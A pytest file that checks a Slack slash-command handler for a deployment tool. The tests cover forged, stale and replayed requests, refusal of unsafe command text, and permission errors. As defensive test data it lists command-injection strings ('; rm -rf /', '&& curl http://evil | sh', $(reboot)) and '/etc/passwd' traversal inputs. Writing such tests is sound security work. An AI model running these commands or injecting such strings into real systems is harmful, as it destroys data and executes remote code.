"""What ``/slipstream`` refuses, with a clear answer and nothing started, and what the other
commands answer; over real HTTP to a running server, signed as Slack signs."""

from __future__ import annotations

import time
from collections.abc import Callable

import pytest

from tests.chatops.conftest import CHANNEL, SECRET, TEAM, Served
from tests.chatops.slackfake import command_body, send, signed_headers


def body_for(served: Served, text: str, user: str = "UALICE", name: str = "r") -> str:
    return command_body(
        text, team=TEAM, user=user, channel=CHANNEL, response_url=served.slack.response_url(name)
    )


def nothing_started(served: Served, runs_before: int, calls_before: int) -> None:
    time.sleep(0.5)  # background work would have started by now
    assert len(served.runs()) == runs_before
    assert "chat.postMessage" not in served.slack.methods()[calls_before:]


@pytest.mark.parametrize(
    ("why", "headers"),
    [
        ("wrong signature", lambda body: signed_headers("not-the-secret", body)),
        (
            "five minutes and one second old",
            lambda body: signed_headers(SECRET, body, int(time.time()) - 301),
        ),
        ("no signature", lambda body: {"Content-Type": "application/x-www-form-urlencoded"}),
    ],
)
def test_forged_requests_get_401_and_change_nothing(
    served: Served, why: str, headers: Callable[[str], dict[str, str]]
) -> None:
    runs, calls = len(served.runs()), len(served.slack.calls)
    body = body_for(served, "deploy quick", name=f"forged-{why}")
    answer = send(served.events_url, body, headers(body))
    assert (answer.status, answer.json()) == (401, {"error": "invalid request"})
    nothing_started(served, runs, calls)
    assert served.slack.answers(f"forged-{why}") == []


def test_a_replayed_request_gets_401(served: Served) -> None:
    body = body_for(served, "list mine", name="replayed")
    headers = signed_headers(SECRET, body)
    assert send(served.events_url, body, headers).status == 200
    answer = send(served.events_url, body, headers)
    assert (answer.status, answer.json()) == (401, {"error": "replayed request"})
    served.slack.wait_for(lambda: served.slack.answers("replayed"))
    time.sleep(0.5)
    assert len(served.slack.answers("replayed")) == 1  # the command ran once


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("deploy quick; rm -rf /", "`quick;`: `;` is never accepted from chat"),
        ("deploy quick && curl http://evil | sh", "`&&`: `&` is never accepted"),
        ("deploy `reboot`", "is never accepted"),
        ('deploy quick greeting="$(reboot)"', "`$` is never accepted from chat, quoted or not"),
        ("deploy quick -var-file=/etc/passwd", "`-var-file` is not a node or input name"),
        ("deploy ../../etc/passwd", "`../../etc/passwd` is not a recipe name"),
        ("deploy quick " + "x" * 10240, "characters long; a command has at most 2000"),
        ("deplyo quick", "`deplyo` is not a command; did you mean `deploy`?"),
    ],
)
def test_text_that_is_no_command_is_refused_at_once_naming_the_bad_part(
    served: Served, text: str, says: str
) -> None:
    runs, calls = len(served.runs()), len(served.slack.calls)
    answer = send(served.events_url, body := body_for(served, text), signed_headers(SECRET, body))
    assert answer.status == 200 and answer.seconds < 3.0
    doc = answer.json()
    assert doc["response_type"] == "ephemeral"
    assert says.replace("&", "&amp;") in doc["text"].replace("&amp;&amp;", "&amp;&amp;"), doc
    assert "usage:" in doc["text"] or "/slipstream help" in doc["text"]
    nothing_started(served, runs, calls)


def test_an_unknown_user_may_only_ask_for_help(served: Served) -> None:
    runs, calls = len(served.runs()), len(served.slack.calls)
    assert served.command("deploy quick", "UNOBODY", "unknown").status == 200
    answer = served.slack.wait_for(lambda: served.slack.answers("unknown"))[0]
    assert answer["response_type"] == "ephemeral"
    assert "I do not know who you are in SlipStream" in answer["text"]
    assert "slipstream user link NAME --slack T1:UNOBODY" in answer["text"]
    nothing_started(served, runs, calls)
    help_answer = served.command("help", "UNOBODY", "unknown-help").json()
    assert "deploy RECIPE [on CLOUD]" in help_answer["text"]


def test_deploy_refusals_name_the_missing_right_or_the_nearest_recipe(served: Served) -> None:
    runs, calls = len(served.runs()), len(served.slack.calls)
    for i, (user, text, says) in enumerate(
        [
            ("UDAVE", "deploy quick", "dave lacks the `deploy` right on deployment `quick`"),
            ("UALICE", "deploy quik", "no deployment named `quik`; did you mean `quick`?"),
            (
                "UALICE",
                "deploy webapp x2 wbe",
                "`wbe` is not a node of `webapp`; did you mean `web`?",
            ),
            ("UALICE", "deploy quick nope=1", "unknown input `nope` (inputs: greeting)"),
        ]
    ):
        assert served.command(text, user, f"refused-{i}").status == 200
        answer = served.slack.wait_for(lambda i=i: served.slack.answers(f"refused-{i}"))[0]
        assert says in answer["text"], answer
    nothing_started(served, runs, calls)


def test_reading_commands_answer_only_the_asker(served: Served) -> None:
    slack = served.slack
    served.command("deploy quick", "UALICE", "quick")
    parent = slack.wait_for(lambda: next(iter(slack.parents(CHANNEL)), None))
    slack.wait_for(lambda: "Ready" in parent.text, timeout=90)
    run_id = served.runs()[0]["id"]
    asked = {
        "status": f"status {run_id}",
        "params": f"params {run_id}",
        "logs": f"logs {run_id}",
        "scale": f"scale {run_id} w=+1",
        "mine": "status",
    }
    for name, text in asked.items():
        served.command(text, "UALICE", name)
    # dave is known by the e-mail address of his Slack profile (asked once, then linked).
    served.command("list all", "UDAVE", "list-1")
    served.command("list all", "UDAVE", "list-2")
    answers = {
        n: slack.wait_for(lambda n=n: slack.answers(n))[0] for n in [*asked, "list-1", "list-2"]
    }
    assert all(a["response_type"] == "ephemeral" for a in answers.values())
    assert "*Ready*" in answers["status"]["text"] or "Ready" in answers["status"]["text"]
    assert "w.1:greeting = hi" in answers["params"]["text"]
    assert "run entered Ready" in answers["logs"]["text"]
    assert f"run `{run_id}` is not scalable" in answers["scale"]["text"]
    assert run_id in answers["mine"]["text"]
    assert run_id in answers["list-1"]["text"] and run_id in answers["list-2"]["text"]
    assert [c.fields["user"] for c in slack.calls if c.method == "users.info"].count("UDAVE") == 1
